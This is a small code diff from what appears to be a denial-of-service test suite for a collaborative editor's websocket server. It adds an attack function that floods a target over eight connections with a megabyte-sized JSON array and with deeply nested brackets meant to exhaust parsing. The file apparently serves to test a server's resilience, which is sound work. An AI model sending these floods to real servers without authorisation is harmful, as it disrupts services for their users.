@@ -155,6 +155,15 @@ async def nested_inside(target: Target) -> None:
     await _flood(target, "eve0", data)
 
 
+@attack("S3: the same, and a megabyte of numbers, by eight", editor=True)
+async def costly_json(target: Target) -> None:
+    numbers = ",".join(["1.5"] * 240_000)
+    data = frame('42["presence",{"project":"mine","state":[' + numbers + "]}]")
+    nested = ",".join(["[" * 900 + "]" * 900] * 520)
+    data += frame('425["change",{"project":"mine","id":"n","data":[' + nested + "]}]")
+    await _flood(target, "eve0", data, connections=8)
+
+
 @attack("S3: pings and pongs of twenty with a token", editor=True)
 async def pongs_inside(target: Target) -> None:
     users = iter(range(20))
